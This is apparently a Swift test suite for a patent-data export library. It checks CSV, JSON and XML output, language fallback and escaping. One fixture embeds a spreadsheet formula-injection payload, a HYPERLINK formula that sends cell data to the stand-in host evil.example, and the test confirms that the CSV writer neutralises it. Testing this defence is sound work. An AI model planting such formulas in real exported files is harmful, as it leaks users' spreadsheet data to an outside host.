import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import PatentModel
import PatentQuery
import Testing
@testable import PatentExport

/// A patent with a bit of everything the writers must get right.
func samplePatent() -> ExportRecord {
    var patent = Patent(publication: PublicationNumber(office: "CN", number: "110000001", kind: "A")!)
    patent.application = DocumentReference(office: "CN", number: "201910000001.5", date: PatentDate("20190102"))
    patent.publicationDate = PatentDate("20190705")
    patent.type = .application
    patent.originalLanguage = "zh"
    patent.titles = [LocalizedText(language: "zh", text: "一种电池"), LocalizedText(language: "en", text: "A battery, \"improved\"")]
    patent.abstracts = [LocalizedParagraphs(language: "zh", paragraphs: ["第一段", "第二段"])]
    patent.applicants = [Party(name: "ACME <Batteries> & Co")]
    patent.assignees = [Party(name: "ACME <Batteries> & Co"), Party(name: "Beta\u{1}Corp")]
    patent.inventors = [Party(name: "Li, Wei"), Party(name: "Zhang San")]
    patent.ipc = ["H01M10/0525", "H01M4/00"]
    patent.priorities = [DocumentReference(office: "CN", number: "201810000009", date: PatentDate("20180101"))]
    return ExportRecord(patent: patent, families: [.docdb: 42, .inpadoc: 43])
}

func fields(_ codes: String) -> [ExportField] { codes.split(separator: ",").map { FieldCatalogue.exportField(String($0))! } }

func write(_ type: ExportType, _ codes: String, _ records: [ExportRecord], languages: ExportLanguages = ExportLanguages()) throws -> [UInt8] {
    let path = FileManager.default.temporaryDirectory.appendingPathComponent("export-\(UUID().uuidString)").path
    defer { try? FileManager.default.removeItem(atPath: path) }
    let writer = try ExportFormat.writer(type, path: path, fields: fields(codes), languages: languages)
    for record in records { try writer.write(record) }
    try writer.finish()
    return Array(FileManager.default.contents(atPath: path)!)
}

@Suite struct ExportValueTests {
    @Test func valuesComputedAheadAreUsedOnlyForTheirFieldsAndLanguages() throws {
        var record = samplePatent()
        let english = ExportLanguages(lang: "en")
        let chinese = ExportLanguages(lang: "cn")
        record.computeValues(fields("PN,TTL,AN"), languages: english)
        #expect(record.values(fields("PN,TTL,AN"), languages: english) == samplePatent().values(fields("PN,TTL,AN"), languages: english))
        #expect(record.values(fields("PN,TTL,AN"), languages: chinese) == samplePatent().values(fields("PN,TTL,AN"), languages: chinese))
        #expect(record.values(fields("PN,TTL"), languages: english) == samplePatent().values(fields("PN,TTL"), languages: english))
        #expect(record.values(fields("TTL,PN,AN"), languages: english) == samplePatent().values(fields("TTL,PN,AN"), languages: english))
        // The files are the same whether the values were computed ahead or not.
        #expect(try write(.csv, "PN,TTL,AN,ABST", [record]) == (try write(.csv, "PN,TTL,AN,ABST", [samplePatent()])))
        #expect(try write(.json, "PN,TTL,AN", [record]) == (try write(.json, "PN,TTL,AN", [samplePatent()])))
    }

    @Test func valuesFollowTheFieldCatalogue() {
        let record = samplePatent()
        let languages = ExportLanguages()
        #expect(record.value("PN", languages: languages) == .single("CN110000001A"))
        #expect(record.value("APNO", languages: languages) == .single("CN201910000001"))
        #expect(record.value("APD", languages: languages) == .single("2019-01-02"))
        #expect(record.value("PRIORITY_DATE", languages: languages) == .single("2018-01-01"))
        #expect(record.value("ISD", languages: languages) == .single(nil))
        #expect(record.value("PATENT_TYPE", languages: languages) == .single("A"))
        // Applicants ∪ assignees, each name once, in order.
        #expect(record.value("AN", languages: languages) == .list(["ACME <Batteries> & Co", "Beta\u{1}Corp"]))
        #expect(record.value("FAM_ID", languages: languages) == .single("42"))
        #expect(record.value("EFAM_ID", languages: languages) == .single(nil))
        #expect(record.value("PRNO", languages: languages) == .list(["CN201810000009"]))
    }

    @Test func languageFallsBackFromLangToTransLangToOriginal() {
        let record = samplePatent()
        #expect(record.value("TTL", languages: ExportLanguages(lang: "en")) == .single("A battery, \"improved\""))
        #expect(record.value("TTL", languages: ExportLanguages(lang: "cn")) == .single("一种电池"))
        // No German title: trans_lang (jp) is missing too, so the original (zh).
        #expect(record.value("TTL", languages: ExportLanguages(lang: "de", transLang: "jp")) == .single("一种电池"))
        #expect(record.value("TTL", languages: ExportLanguages(lang: "de", transLang: "en")) == .single("A battery, \"improved\""))
        // Abstract only in Chinese: whatever is asked, the paragraphs joined by a line break.
        #expect(record.value("ABST", languages: ExportLanguages(lang: "en")) == .single("第一段\n第二段"))
    }
}

@Suite struct ExportWriterTests {
    @Test func csvHasABOMAHeaderAndRFC4180Quoting() throws {
        let bytes = try write(.csv, "PN,TTL,IN,ABST", [samplePatent()])
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        #expect(text == "PN,TTL,IN,ABST\r\nCN110000001A,\"A battery, \"\"improved\"\"\",\"Li, Wei | Zhang San\",\"第一段\n第二段\"\r\n")
    }

    /// A patent whose third-party text looks like spreadsheet formulas.
    static func formulaPatent() -> ExportRecord {
        var patent = Patent(publication: PublicationNumber(office: "US", number: "1234567", kind: "B1")!)
        patent.titles = [LocalizedText(language: "en", text: #"=HYPERLINK("http://evil.example/?"&B2,"click")"#)]
        patent.inventors = [Party(name: "+1 Smith"), Party(name: "Jones")]
        patent.applicants = [Party(name: "@SUM(A1)")]
        patent.abstracts = [LocalizedParagraphs(language: "en", paragraphs: ["－1 full-width minus"])]
        patent.ipc = ["\tH01M"]
        return ExportRecord(patent: patent, families: [:])
    }

    @Test func csvNeutralisesCellsASpreadsheetWouldRunAsFormulas() throws {
        let bytes = try write(.csv, "PN,TTL,IN,AN,ABST,IPC", [Self.formulaPatent()])
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        let row = text.components(separatedBy: "\r\n")[1]
        #expect(row == #"US1234567B1,"'=HYPERLINK(""http://evil.example/?""&B2,""click"")",'+1 Smith | Jones,'@SUM(A1),'－1 full-width minus,'\#tH01M"#)
        for start in ["=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"] {
            #expect(Self.cell([start + "1"]) == "'" + start + "1")
        }
        #expect(Self.cell(["\r1"]) == "\"'\r1\"")
        #expect(Self.cell(["A battery"]) == "A battery")
        #expect(Self.cell([""]) == "")
        #expect(Self.cell(["1-2"]) == "1-2")
        #expect(Self.cell(["", "=1"]) == " | =1")
        #expect(Self.cell(["＝\u{301}1"]) == "'＝\u{301}1")
        #expect(Self.cell(["＞1"]) == "＞1")
        #expect(Self.cell(["a\"\u{301}b"]) == "\"a\"\"\u{301}b\"")
    }

    /// A CSV cell as the writer writes it.
    static func cell(_ values: [String]) -> String {
        var out: [UInt8] = Array("x,".utf8)
        CSVExportWriter.append(cell: values.count == 1 ? .single(values[0]) : .list(values), to: &out)
        out.removeFirst(2)
        return String(decoding: out, as: UTF8.self)
    }

    @Test func csvWithoutRowsIsTheHeader() throws {
        let bytes = try write(.csv, "PN,APD", [])
        #expect(String(decoding: bytes.dropFirst(3), as: UTF8.self) == "PN,APD\r\n")
    }

    @Test func jsonIsAnArrayOfObjectsWithArraysForMultiValuedFields() throws {
        let bytes = try write(.json, "PN,TTL,ISD,AN,IPC", [samplePatent(), samplePatent()])
        let parsed = try JSONSerialization.jsonObject(with: Data(bytes)) as! [[String: Any]]
        #expect(parsed.count == 2)
        #expect(parsed[0]["PN"] as? String == "CN110000001A")
        #expect(parsed[0]["TTL"] as? String == "A battery, \"improved\"")
        #expect(parsed[0]["ISD"] is NSNull)
        #expect(parsed[0]["AN"] as? [String] == ["ACME <Batteries> & Co", "Beta\u{1}Corp"])
        #expect(parsed[1]["IPC"] as? [String] == ["H01M10/0525", "H01M4/00"])
        // Keys in the requested order.
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(text.contains(#"{"PN":"CN110000001A","TTL":"A battery, \"improved\"","ISD":null,"AN":"#))
        #expect(text.contains(#""Beta\u0001Corp""#))
        #expect(String(decoding: try write(.json, "PN", []), as: UTF8.self) == "[]\n")
    }

    @Test func xmlIsWellFormedWithEscapesAndWithoutIllegalCharacters() throws {
        let bytes = try write(.xml, "PN,ISD,AN", [samplePatent()])
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(text.contains("<patent><PN>CN110000001A</PN><ISD/><AN><value>ACME &lt;Batteries&gt; &amp; Co</value><value>BetaCorp</value></AN></patent>"))
        let document = try XMLDocument(data: Data(bytes))
        #expect(try document.nodes(forXPath: "/patents/patent/AN/value").count == 2)
    }
}

@Suite struct TextBytesTests {
    @Test func decimalsAreWrittenAsSwiftPrintsThem() {
        for value in [0, 7, 9, 10, 99, 100, 43_467, -5, -10, Int.max, Int.min, Int.max - 1, 1_000_000_000_000_000_000] {
            var out: [UInt8] = [UInt8(ascii: "x")]
            out.append(decimal: value)
            #expect(String(decoding: out, as: UTF8.self) == "x\(value)")
        }
    }

    @Test func jsonStringsEscapeQuotesBackslashesAndControls() throws {
        let text = "a\"b\\c\nd\re\tf\u{1}g\u{1F}h電池\u{7F}"
        var out: [UInt8] = []
        out.append(jsonString: text)
        #expect(String(decoding: out, as: UTF8.self) == #""a\"b\\c\nd\re\tf\u0001g\u001fh電池"# + "\u{7F}\"")
        // And it parses back to the same text.
        let parsed = try JSONSerialization.jsonObject(with: Data(out), options: .fragmentsAllowed) as? String
        #expect(parsed == text)
    }

    @Test func xmlEscapingDropsWhatXMLForbidsAndKeepsTheRest() {
        #expect(XMLText.escaped("a&b<c>d\"e'f") == "a&amp;b&lt;c&gt;d&quot;e&apos;f")
        #expect(XMLText.escaped("x\u{1}y\u{FFFE}z\u{FFFF}\u{FFFD}\t\n\r电") == "xyz\u{FFFD}\t\n\r电")
        #expect(XMLText.escaped("\u{EFBF}") == "\u{EFBF}")
        #expect(XMLText.escaped("") == "")
    }
}
